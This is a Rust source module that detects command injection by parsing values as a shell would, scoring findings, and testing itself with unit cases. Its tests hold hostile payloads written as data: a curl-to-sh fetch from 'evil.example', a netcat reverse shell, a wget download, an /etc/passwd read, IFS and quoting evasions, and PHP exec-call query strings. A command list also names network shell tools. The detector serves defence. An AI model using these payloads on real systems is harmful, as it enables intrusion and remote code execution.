//! Command injection, by tokenising the value as a shell would.
//!
//! A command position is the start of what follows a command separator
//! (`;`, `|`, `||`, `&`, `&&`, a newline) or opens a substitution (`$(`,
//! a backtick). The word there is unquoted the shell's way (`c'a't`, `c\at`,
//! `${IFS}` as a blank). It is a command when it is an executable path
//! (`/bin/sh`) or a known command name, and the finding is critical when the
//! command is shaped like a command line: it ends the value or its segment
//! (`| id`), or its arguments hold an option, a path, a URL, an address, a
//! redirection or a variable. A known command followed by prose (`; cat food
//! is great`) is not. Backtick spans in prose are Markdown code, not
//! substitutions.

use super::{CRITICAL, Hit, SUSPICIOUS};

/// Commands an injected command line starts with (POSIX tools, shells,
/// interpreters, network tools, Windows shells).
const COMMANDS: &[&str] = &[
    "cat",
    "id",
    "whoami",
    "uname",
    "ls",
    "dir",
    "pwd",
    "ps",
    "env",
    "set",
    "echo",
    "printf",
    "sh",
    "bash",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "tcsh",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "curl",
    "wget",
    "ping",
    "nslookup",
    "dig",
    "host",
    "traceroute",
    "ifconfig",
    "ip",
    "netstat",
    "sleep",
    "rm",
    "cp",
    "mv",
    "chmod",
    "chown",
    "touch",
    "mkdir",
    "kill",
    "killall",
    "python",
    "python2",
    "python3",
    "perl",
    "php",
    "ruby",
    "node",
    "lua",
    "java",
    "powershell",
    "pwsh",
    "cmd",
    "net",
    "systeminfo",
    "tasklist",
    "type",
    "certutil",
    "bitsadmin",
    "head",
    "tail",
    "more",
    "less",
    "grep",
    "find",
    "awk",
    "sed",
    "xargs",
    "base64",
    "xxd",
    "od",
    "tar",
    "zip",
    "unzip",
    "sudo",
    "su",
    "crontab",
    "nohup",
    "eval",
    "exec",
    "hostname",
    "passwd",
    "useradd",
    "reboot",
    "shutdown",
    "scp",
    "ssh",
    "ftp",
    "tftp",
    "mkfifo",
    "mknod",
    "timeout",
    "uptime",
    "who",
    "last",
    "history",
    "expr",
    "sort",
    "uniq",
    "wc",
    "strings",
    "file",
    "stat",
    "df",
    "du",
    "mount",
    "lsof",
    "openssl",
    "gcc",
    "cc",
    "make",
    "git",
    "svn",
    "docker",
    "kubectl",
    "systemctl",
    "service",
    "iptables",
    "nmap",
    "whois",
    "finger",
    "ls.exe",
    "cmd.exe",
    "powershell.exe",
];

/// A separator or substitution that starts a command at the byte after it.
fn command_starts(s: &str) -> Vec<(usize, char)> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b';' | b'\n' | b'\r' => out.push((i + 1, ';')),
            b'|' | b'&' => {
                let n = if b.get(i + 1) == Some(&b[i]) { 2 } else { 1 };
                out.push((i + n, b[i] as char));
                i += n;
                continue;
            }
            b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) != Some(&b'(') => {
                out.push((i + 2, '('));
            }
            b'`' => out.push((i + 1, '`')),
            _ => {}
        }
        i += 1;
    }
    out
}

/// Unquotes one shell word: quotes and backslashes removed, `${IFS}` /
/// `$IFS` ends it (a blank). Returns the word and the bytes read.
fn shell_word(s: &str) -> (String, usize) {
    let mut w = String::new();
    let mut chars = s.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if s[i..].starts_with("${IFS}") || s[i..].starts_with("$IFS") {
            return (w, i);
        }
        match c {
            '\'' | '"' => {}
            '\\' if chars.peek().is_some_and(|(_, n)| *n != '\\') => {}
            ' ' | '\t' | ';' | '|' | '&' | '`' | ')' | '<' | '>' | '\n' | '\r' => return (w, i),
            _ => w.push(c),
        }
    }
    (w, s.len())
}

/// Whether an argument looks like a command line's, not prose.
fn shell_arg(a: &str) -> bool {
    a.starts_with('-') && a.len() > 1
        || a.starts_with('/')
        || a.starts_with("./")
        || a.starts_with("~/")
        || a.starts_with('$')
        || a.contains("://")
        || a.starts_with('>')
        || a.starts_with('<')
        || a.contains("${IFS}")
        || (a.split('.').count() == 4
            && a.split('.')
                .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit())))
}

/// The segment of a command line from `start`: up to the next separator.
fn segment(s: &str, start: usize) -> &str {
    let rest = &s[start..];
    let end = rest
        .find([';', '|', '&', '`', ')', '\n', '\r'])
        .unwrap_or(rest.len());
    &rest[..end]
}

fn is_command(word: &str) -> bool {
    let w = word.to_ascii_lowercase();
    if w.starts_with('/') && w.len() > 1 {
        let base = w.rsplit('/').next().unwrap_or("");
        return w.contains("bin/") || COMMANDS.contains(&base);
    }
    COMMANDS.contains(&w.as_str())
}

/// Prose: at least four words of two letters or more.
fn prose(s: &str) -> bool {
    s.split_whitespace()
        .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
        .count()
        >= 4
}

/// Prose outside backtick spans (Markdown code in a sentence).
fn prose_outside_backticks(s: &str) -> bool {
    prose(&s.split('`').step_by(2).collect::<Vec<_>>().join(" "))
}

/// A number (`10`, `3.5`) or a host name (`evil.example`, `10.0.0.1`).
fn number_or_host(a: &str) -> bool {
    let a = a.trim_end_matches([',', '.']);
    if !a.is_empty() && a.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
        return true;
    }
    let labels: Vec<&str> = a.split('.').collect();
    labels.len() >= 2
        && labels
            .iter()
            .all(|l| !l.is_empty() && l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
        && labels
            .last()
            .is_some_and(|t| t.len() >= 2 && t.bytes().all(|c| c.is_ascii_alphabetic()))
}

/// Judges the command at `start` (after a separator of kind `sep`).
fn judge(s: &str, start: usize, sep: char) -> Option<(u32, String)> {
    let rest = &s[start..];
    let lead = rest.len() - rest.trim_start_matches([' ', '\t', '{', '(']).len();
    let (word, used) = shell_word(&rest[lead..]);
    if word.is_empty() || !is_command(&word) {
        return None;
    }
    if sep == '`' && prose_outside_backticks(s) {
        return None;
    }
    let seg = segment(s, start + lead);
    let after = seg[used.min(seg.len())..]
        .replace("${IFS}", " ")
        .replace("$IFS", " ");
    let args: Vec<&str> = after.split_whitespace().collect();
    let ends = args.is_empty();
    // `sleep 10`, `nslookup evil.example`: one or two operands, each a
    // number or a host name, are a command's, not a sentence's.
    let operands = args.len() <= 2 && args.iter().all(|a| number_or_host(a));
    let shaped = ends || operands || args.iter().any(|a| shell_arg(a)) || seg.contains("${IFS}");
    let evidence = format!("{sep} {}", seg.trim());
    // In prose (a support message quoting a command), a command line is
    // only suspicious: the words around it say what the value is.
    let outside = s.replacen(seg, " ", 1);
    if shaped && sep != '`' && prose(&outside) {
        return Some((SUSPICIOUS, evidence));
    }
    if shaped {
        Some((CRITICAL, evidence))
    } else if args.len() <= 2 && sep != '&' {
        Some((SUSPICIOUS, evidence))
    } else {
        None
    }
}

/// Functions that run an OS command or code given to them by name.
const EXEC_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "call_user_func",
    "call_user_func_array",
    "create_function",
    "runtime.exec",
    "processbuilder",
    "os.system",
    "subprocess.popen",
    "child_process.exec",
];

/// A call by name with a command line as argument, in query-string form
/// (`function=system&vars[]=id`, `action=exec&c=whoami`): one argument names
/// a command-running function, another is a command line.
pub fn exec_call(s: &str) -> Option<Hit> {
    let query = s.split_once('?').map_or(s, |(_, q)| q);
    if !query.contains('=') || !query.contains('&') {
        return None;
    }
    let pairs: Vec<(&str, &str)> = query
        .split('&')
        .filter_map(|p| p.split_once('=').map(|(k, v)| (k.trim(), v.trim())))
        .collect();
    // The argument that says what to call: `function=`, `action=`, `cb=`, ...
    let calls = |k: &str| {
        let k = k.to_ascii_lowercase();
        [
            "func", "fn", "action", "callback", "cb", "method", "call", "handler", "cmd", "do",
        ]
        .iter()
        .any(|n| k == *n || k.starts_with(n))
    };
    let function = pairs
        .iter()
        .find(|(k, v)| calls(k) && EXEC_FUNCTIONS.contains(&v.to_ascii_lowercase().as_str()))
        .map(|(_, v)| *v)?;
    let values: Vec<&str> = pairs.iter().map(|(_, v)| *v).collect();
    let command = values.iter().find(|v| {
        let first = v
            .split(|c: char| c.is_whitespace() || c == '+')
            .next()
            .unwrap_or("");
        **v != function && is_command(first)
    })?;
    Some(Hit::new(
        "cmdi",
        CRITICAL,
        &format!("{function}({command}) in {s}"),
    ))
}

/// Command injection: a command line after a separator or in a
/// substitution, or a call by name with a command line ([`exec_call`]).
pub fn detect(s: &str) -> Option<Hit> {
    if let Some(hit) = exec_call(s) {
        return Some(hit);
    }
    let mut best: Option<(u32, String)> = None;
    for (start, sep) in command_starts(s) {
        if let Some((score, ev)) = judge(s, start, sep)
            && best.as_ref().is_none_or(|(b, _)| score > *b)
        {
            best = Some((score, ev));
        }
    }
    best.map(|(score, ev)| Hit::new("cmdi", score, &ev))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(s: &str) -> u32 {
        detect(s).map_or(0, |h| h.score)
    }

    #[test]
    fn command_lines_are_critical() {
        for s in [
            "; cat /etc/passwd",
            "| id",
            "`whoami`",
            "$(curl http://evil.example/x.sh|sh)",
            "&& nc -e /bin/sh 203.0.113.5 4444",
            "; ping -c 3 203.0.113.5",
            "|| wget http://evil.example/a -O /tmp/a",
            "a;uname${IFS}-a",
            "; sleep 10",
            "| nslookup evil.example",
            "x;c'a't /etc/hosts",
            "file.txt; /bin/sh -i",
            "x\nid",
            "index.php?s=/index/think\\app/invokefunction&function=system&vars[]=id",
            "wp-admin/admin-ajax.php?action=exec&c=id",
        ] {
            assert_eq!(score(s), CRITICAL, "{s}");
        }
    }

    #[test]
    fn prose_that_mentions_commands_is_not() {
        for s in [
            "Hi, the export fails. I ran `ls -la /tmp/exports` and the file is there, then cat on it shows nothing.",
            "Our cron job calls curl -X POST https://api.example.com/v1/sync every hour; since Monday it gets 500.",
            "When I type rm in the search box, it deletes my filter — is that expected? Drop me a note.",
            "Tom & Jerry",
            "Acme & Söhne GmbH",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            "Can you run the reconciliation script again? We use python3 and bash on our side.",
            "Salt & pepper; cat food and dog food are in aisle 4",
            "R&D budget; find the numbers in the attached sheet",
            "I tried restarting the worker; curl -v https://api.example.com/health still shows 503.",
            "Steps:\n```\ncurl -X POST https://api.example.com/v1/payments -d amount=100\n```\nYou get a 500; the body says nothing.",
            "/search?q=system&sort=id",
            "mode=exec&view=summary",
        ] {
            assert_ne!(score(s), CRITICAL, "{s}");
        }
    }
}
